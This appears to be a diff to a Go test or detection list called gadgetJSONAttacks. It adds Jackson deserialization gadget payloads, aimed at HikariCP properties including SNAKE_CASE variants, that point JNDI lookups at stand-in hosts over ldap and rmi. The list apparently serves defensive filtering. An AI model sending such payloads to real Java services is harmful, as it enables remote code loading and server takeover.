@@ -59,6 +59,8 @@ var gadgetJSONAttacks = []string{
 	`{"kind":"com.zaxxer.hikari.HikariConfig","metricRegistry":"ldap://e.vil/x"}`,
 	`{"ds":{"com.zaxxer.hikari.HikariDataSource":{"healthCheckRegistry":"LDAP://e.vil/x"}}}`,
 	`{"t":"x.y.JndiRefForwardingDataSource","jndiName":"iiop://e.vil/x"}`,
+	// attack 20's: Jackson's SNAKE_CASE naming strategy
+	`{"com.zaxxer.hikari.HikariConfig":{"metric_registry":"rmi://evil:1099/x"}}`, `{"x":{"health_check_registry":"ldap://evil:1389/x"}}`,
 }
 
 // javaSerialized is the start of a serialized commons-collections chain
